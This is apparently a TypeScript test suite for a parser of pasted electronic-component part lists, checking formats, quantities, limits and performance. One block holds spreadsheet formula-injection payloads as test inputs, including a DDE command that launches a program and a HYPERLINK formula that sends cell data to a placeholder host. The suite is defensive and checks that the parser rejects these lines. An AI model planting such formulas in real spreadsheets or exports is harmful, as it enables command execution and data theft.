import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readPartList } from '../../../../src/bom/model/part-rows';
import { growth } from '../../growth';
import '../../property-runs';

const rowsOf = (text: string) => readPartList(text)?.rows ?? [];
/** `LM358=10 | CH340G=`: models and quantities; `LM358=?1.000` has a quantity that is not understood. */
const read = (text: string) =>
  rowsOf(text)
    .map(
      ({ model, quantity, unread }) => `${model}=${quantity ?? (unread === undefined ? '' : `?${unread}`)}`,
    )
    .join(' | ');
/** A line of a list as its first row is read; the row after it makes it a list. */
const rowOf = (line: string) => read(`${line}\nCH340G 5`).split(' | ')[0];

/** Texts between `¦`. */
const listed = (texts: string) => texts.split('¦');

const TWO = 'STM32F103C8T6=10 | CH340G=1000';
const BOTH = 'LM358=10 | CH340G=5';

describe('B16 a pasted list', () => {
  it.each([
    ['cells of a spreadsheet', 'STM32F103C8T6\t10\r\nCH340G\t1,000\r\n'],
    ['the quantity first', '10\tSTM32F103C8T6\n1000\tCH340G'],
    ['a heading', '型号\t数量\nSTM32F103C8T6\t10\nCH340G\t1000'],
    ['a heading the other way round', '数量,型号\n10,STM32F103C8T6\n1000,CH340G'],
    ['more columns', 'Qty\tMPN\tPackage\n10\tSTM32F103C8T6\t1206\n1000\tCH340G\t1206'],
    ['row numbers', '1\tSTM32F103C8T6\t10\n2\tCH340G\t1000'],
    ['commas', 'STM32F103C8T6,10\nCH340G,1000'],
    ['commas in the numbers too', 'STM32F103C8T6, 10\nCH340G, 1,000'],
    ['commas in the numbers beside commas', 'STM32F103C8T6,10\nCH340G,1,000'],
    ['semicolons', 'STM32F103C8T6;10\nCH340G;1000'],
    ['Chinese punctuation', 'STM32F103C8T6，10个；CH340G，1000个；'],
    ['Chinese punctuation in lines', 'STM32F103C8T6：10\nCH340G：1，000'],
    ['an enumeration', 'STM32F103C8T6 10、CH340G 1000'],
    ['×10', 'STM32F103C8T6×10\nCH340G × 1,000'],
    ['*10 and x 10', 'STM32F103C8T6*10pcs\nCH340G x 1000'],
    ['full-width characters', 'ＳＴＭ３２Ｆ１０３Ｃ８Ｔ６　１０\nＣＨ３４０Ｇ　１０００'],
    ['an e-mail', '您好，\n\n请报价：\n1. STM32F103C8T6 10 pcs\n2. CH340G 1000 PCS\n\n谢谢！'],
    ['bullets', '• STM32F103C8T6 数量: 10\n• CH340G 数量: 1000'],
    ['quoted cells', '"STM32F103C8T6"\t10\n"CH340G"\t"1,000"'],
    ['Excel’s decimals', 'STM32F103C8T6\t10.00\nCH340G\t1000.0'],
    ['a line turned round', '10 STM32F103C8T6\nCH340G 1000'],
  ])('is read from %s', (_, text) => {
    expect(readPartList(text)).toEqual({
      rows: [
        { model: 'STM32F103C8T6', quantity: 10 },
        { model: 'CH340G', quantity: 1000 },
      ],
      unread: [],
    });
    expect(read(text)).toBe(TWO);
  });

  it.each([
    ['STM32F103C8T6\nCH340G', 'STM32F103C8T6= | CH340G='],
    ['STM32F103C8T6, CH340G', 'STM32F103C8T6= | CH340G='],
    ['LM7805\t5\n7812\t6', 'LM7805=5 | 7812=6'],
    ['电容 0603 100nF 50\nRC0603FR 20', '电容 0603 100nF=50 | RC0603FR=20'],
    ['TXB0108x10\nCH340G', 'TXB0108x10= | CH340G='],
    ['STM32F103C8T6\t\nCH340G\t5', 'STM32F103C8T6= | CH340G=5'],
    ['LM358 10;CH340G 5', BOTH],
    ['LM358 10; ;CH340G 5;', BOTH],
    ['LM358 10、CH340G 5', BOTH],
    ['LM358 10,CH340G 5', BOTH],
    ['LM358 1,000,CH340G 5', 'LM358=1000 | CH340G=5'],
    ['LM358,100nF50V', 'LM358= | 100nF50V='],
    ['LM358 10\nCH340G 5\n谢谢\n电阻 7', `${BOTH} | 电阻=7`],
    ['"LM358\n""DIP""\t8"\t10\nCH340G\t5', 'LM358 "DIP" 8=10 | CH340G=5'],
    ['10\tLM358\n5\t"CH340G\nSOP16"', 'LM358=10 | CH340G SOP16=5'],
    ['"LM358", 10\n"CH340G", 5', BOTH],
  ])('reads %j', (text, expected) => {
    expect(read(text)).toBe(expected);
  });

  it.each([
    ...listed(`STM32F103C8T6¦STM32F103C8T6 10¦STM32F103C8T6\t10¦贴片电容, 0603¦10K 0603 1%, 风华¦R1,R2,R3`),
    ...listed(`型号;LM358 1;CH340G 5¦LM358 10;电阻 5¦您好，\n请问有货吗？\n谢谢`),
    ...listed(`https://a.example/x1\nhttps://b.example/x2¦a1@example.com\nb2@example.com`),
    ...listed(`=1+1\t10\n=2+2\t5¦\n\n\t\t\n¦`),
  ])('is not found in ordinary search text: %j', (text) => {
    expect(readPartList(text)).toBeUndefined();
  });

  it.each([['\r\n'], ['\r'], ['\n\n'], ['\u2028'], ['\u2029'], ['\u0085'], ['\v'], ['\f'], ['\n---\n']])(
    'has lines that end with %j',
    (end) => {
      expect(read(`LM358 10${end}CH340G 5`)).toBe(BOTH);
    },
  );

  it.each([
    ...listed(`1. LM358 10¦12) LM358 10¦3、 LM358 10¦(12) LM358 10¦（5） LM358 10¦- LM358 10¦▪ LM358 10`),
    ...listed(`\tLM358\t10¦LM\u200b358\t10¦\ufeffLM358\t10¦\u202aLM358\u202c\t10¦LM358\u00a010`),
    ...listed(`LM358\u200910¦LM358\u300010`),
  ])('reads a line such as %j', (line) => {
    expect(rowOf(line)).toBe('LM358=10');
  });

  it.each([
    ['LM358 in DIP', 'LM358 in DIP='],
    ['10 LM358 in  DIP', 'LM358 in DIP=10'],
    ['LM358  in DIP\t10', 'LM358 in DIP=10'],
    ['LM358 "A1"\t10', 'LM358 "A1"=10'],
    ['"A1" LM358\t10', '"A1" LM358=10'],
    ['LM358 3.5" 10', 'LM358 3.5"=10'],
  ])('keeps the words around the part number: %j', (line, expected) => {
    expect(rowOf(line)).toBe(expected);
  });

  it('has at most 5000 rows, 200 000 characters, a hundred columns and a hundred characters of a model', () => {
    for (const end of [';', '\n', ' 1\n']) {
      expect(rowsOf(`x1y2${end}`.repeat(5000))).toHaveLength(5000);
      expect(rowsOf(`x1y2${end}`.repeat(5001))).toEqual([]);
    }
    const list = 'x1y2\n'.repeat(5000).padEnd(200_000);
    expect([rowsOf(list).length, rowsOf(`${list} `).length]).toEqual([5000, 0]);
    const wide = `${'a\t'.repeat(99)}LM358\t7\n`;
    expect(read(wide + wide)).toBe('LM358= | LM358=');
    const model = (length: number) => 'LM358'.padEnd(length, 'x');
    expect(rowOf(`${model(100)}\t10`)).toBe(`${model(100)}=10`);
    const { rows, unread } = readPartList(`${model(101)}\t10\nCH340G 5\nTL072 6`) ?? {};
    expect([rows?.length, unread]).toEqual([2, [model(100)]]);
  });

  it.each(['LM358', 'A12', 'LM-CN', '78-05', '电阻a12', 'http://a1', 'a12@b'])(
    'needs a part number, and knows whether %j is one',
    (text) => {
      expect(read(`${text}\nCH340G`)).toBe(text === 'LM358' ? 'LM358= | CH340G=' : '');
    },
  );
});

describe('B16 the columns of a pasted list', () => {
  it.each([
    ['数量\t型号\t封装', '10\tLM358\tSOP8', '5\tCH340G\tSOP16'],
    ['采购量\t厂家型号\t备注', '10\tLM358\ta1b2', '5\tCH340G\ta1b2'],
    ['封装\t商品编号\t需求', 'SOP8\tLM358\t10', 'SOP16\tCH340G\t5'],
    ['Part Number\tQuantity\tPackage', 'LM358\t10\tSOP8', 'CH340G\t5\tSOP16'],
    ['Package\tMfr. Part\tCount', 'SOP8\tLM358\t10', 'SOP16\tCH340G\t5'],
    ['Qty.\tDescription\tP/N', '10\ta1b2\tLM358', '5\ta1b2\tCH340G'],
    ['Pcs\tManufacturer part\tStock', '10\tLM358\t999', '5\tCH340G\t999'],
    ['编号\t型号', '10\tLM358', '5\tCH340G'],
    ['Model ; Qty ; Stock', 'LM358 ; 10 ; 999', 'CH340G ; 5 ; 999'],
    ['MPN (STM32F1)\tQty', 'LM358\t10', 'CH340G\t5'],
    ['Model\tReel\tQty', 'LM358\t4000\t10', 'CH340G\t4000\t5'],
    ['1\tSOP\tLM358\t10', '2\tSOP\tCH340G\t5'],
    ['LM358\t4000\t10', 'CH340G\t4000\t5'],
    ['LM358\tcounter\t10', 'CH340G\tcounter\t5'],
    ['10\tLM358\t1', '5\tCH340G\t2'],
    ['10pcs\tLM358', '5pcs\tCH340G'],
    ['10pcs|LM358;5pcs|CH340G'],
  ])('are found in %j', (...lines) => {
    expect(read(lines.join('\n'))).toBe(BOTH);
  });

  it.each([
    ['Modelo1\t10\nCH340G\t5', 'Modelo1=10 | CH340G=5'],
    ['LM358\t10\ta\nCH340G\t5\t7\nTL072\t6\tb', `${BOTH} | TL072=6`],
    ['10\tLM358\t1\n5\tCH340G\t9', 'LM358=1 | CH340G=9'],
    ['a\tLM358\nb\tCH340G', 'LM358= | CH340G='],
    ['LM358\t1\nCH340G\t2', 'LM358=1 | CH340G=2'],
    ['LM358\t10\tSOP8\nCH340G\t5\tSOP16\n7\tTL072', BOTH],
  ])('are not guessed in %j', (text, expected) => {
    expect(read(text)).toBe(expected);
  });
});

describe('B16 a quantity of a pasted row', () => {
  it.each([
    ...listed(`10¦ 10¦10.0¦10.¦10。¦10pc¦10 pcs¦10 PIECES¦10 piece¦10 ea¦10片¦10 只。¦10 pcs.¦qty 10`),
    ...listed(`Qty. 10¦qty: 10¦qty=10¦数量10¦用量：10¦✖ 10¦= 10¦X 10¦×10。`),
  ])('is read from "LM358 %s"', (text) => {
    expect(rowOf(`LM358 ${text}`)).toBe('LM358=10');
  });

  it.each([
    ...listed(`LM358\tqty: 10¦LM358, 数量：10¦LM358\tx10¦LM358\t× 10 pcs¦LM358\t*10¦LM358×10¦LM358✕10`),
    ...listed(`LM358*10个¦LM358: 10¦LM358=10.0¦LM358|10¦LM358、10¦10 LM358¦10pcs LM358¦10, LM358`),
    ...listed(`x10 LM358`),
  ])('is read from %j', (line) => {
    expect(rowOf(line)).toBe('LM358=10');
  });

  it.each([
    ...listed(`LM358 1,000¦LM358 x 1,000pcs¦LM358、1,000¦LM358|1,000¦LM358 x1,000¦1,000 LM358`),
    ...listed(`LM358:1,000¦LM358\t1'000¦LM358\t1,000.00`),
  ])('may have thousands: %j', (line) => {
    expect(rowOf(line)).toBe('LM358=1000');
  });

  it('is at most 999 999 999', () => {
    expect(rowOf('LM358\t999,999,999')).toBe('LM358=999999999');
  });

  it.each([
    ...listed(`1.000¦2.500¦0.5¦1e3¦-5¦+5¦1.5¦-10¦1.000,00¦10,00¦10kg¦0¦010¦1000000000¦10 pcs please`),
    ...listed(`about 10¦1 000¦٣0`),
  ])('that is not understood is told, and never guessed: %j', (text) => {
    expect(rowOf(`LM358\t${text}`)).toBe(`LM358=?${text}`);
    expect(read(`型号\t数量\nLM358\t${text}\nCH340G\t${text}`)).toBe(`LM358=?${text} | CH340G=?${text}`);
  });

  it.each(['1.000', '0.5', '1e3', '-5'])('that is not understood makes a column: %j', (text) => {
    expect(read(`LM358\t${text}\nCH340G\t${text}`)).toBe(`LM358=?${text} | CH340G=?${text}`);
  });

  it.each(['LM358 1.000', 'LM358×1.000', 'LM358 -5', 'LM358 1e3', 'LM358 0.5'])(
    'is seen by its model: %j',
    (line) => {
      expect(rowOf(line)).toBe(`${line}=`);
    },
  );

  it('is not read from digits grouped wrongly, such as 1,0000', () => {
    expect(rowOf('LM358 1,0000')).toBe('LM358 1=?0000');
  });
});

describe('NM7 a line whose model a spreadsheet would evaluate', () => {
  const FORMULAS = [
    "=cmd|' /C calc'!A0",
    '＝HYPERLINK("http://e.example/?x="&B2,"STM32")',
    '@SUM(A1:A9)',
    '＋1+A1',
    'LM358A; =A1',
    'LM358A|"-A1',
    '-2+3+cmd|1',
  ];
  const BEFORE = ['', ' ', '\u00a0', '\ufeff', '"', "'", '\u200b', '\0', '\u3000 "', '- ', '1. ', '(', '“'];

  it.each(FORMULAS)('is not understood, and not sent: %j', (formula) => {
    for (const before of BEFORE) {
      const { rows, unread = [] } =
        readPartList(`型号\t数量\nSTM32F103C8T6\t5\n${before}${formula}\t10\nCH340G\t7`) ?? {};
      expect(rows).toEqual([
        { model: 'STM32F103C8T6', quantity: 5 },
        { model: 'CH340G', quantity: 7 },
      ]);
      expect(unread).toHaveLength(1);
      expect(unread[0]).toContain(formula.slice(-4));
    }
  });

  it('counts as a row of the list', () => {
    expect(readPartList('=1+1\t10\nSTM32F103C8T6\t5')).toEqual({
      rows: [{ model: 'STM32F103C8T6', quantity: 5 }],
      unread: ['=1+1 10'],
    });
  });
});

describe('B16 reading a pasted list', () => {
  it.each(['x1y2 ', 'x1y2,', '"', '\t"', '1,000,', ',100', '* 1 ', 'LM358 1;', '1\n', '-1\n'])(
    'takes linear time for many %j',
    (part) => {
      // Ten times as much is still below the limits, above which nothing is read.
      expect(growth((length) => readPartList(part.repeat(length / part.length)), 1000)).toBeLessThan(40);
    },
  );

  it.each([
    ['wide lines', (n: number) => `${'\t'.repeat(n)}x\n`.repeat(10) + 'LM358 1\n'.repeat(n), 300],
    ['blanks', (n: number) => `a${' '.repeat(n)}b\n`.repeat(3), 3000],
    ['digits', (n: number) => `LM358\t${'1.'.repeat(n)}\n`.repeat(3), 3000],
  ] as const)('takes linear time for long %s', (_, text, size) => {
    expect(growth((n) => readPartList(text(n)), size)).toBeLessThan(40);
  });

  const row = fc.record({
    model: fc
      .tuple(fc.constantFrom('STM32', 'CH340', 'LM358'), fc.stringMatching(/^[A-Z][A-Z0-9/+-]{0,8}$/))
      .map((parts) => parts.join('')),
    quantity: fc.integer({ min: 1, max: 999_999_999 }),
  });
  const thousands = (quantity: number) => quantity.toLocaleString('en-US');
  const written: ((row: { model: string; quantity: number }) => string)[] = [
    ({ model, quantity }) => `${model}\t${quantity}`,
    ({ model, quantity }) => `${quantity}\t${model}`,
    ({ model, quantity }) => `${model}\t${thousands(quantity)}`,
    ({ model, quantity }) => `${model},${quantity}`,
    ({ model, quantity }) => `${model},${thousands(quantity)}`,
    ({ model, quantity }) => `${model}；${quantity}`,
    ({ model, quantity }) => `${model} ×${quantity}`,
    ({ model, quantity }) => `${model} ${thousands(quantity)}个`,
  ];

  it('gives the same rows from each written form', () => {
    const rows = fc.array(row, { minLength: 2, maxLength: 30 });
    fc.assert(
      fc.property(rows, fc.constantFrom(...written), (given, write) => {
        expect(readPartList(given.map(write).join('\n'))).toEqual({ rows: given, unread: [] });
      }),
    );
  });
});
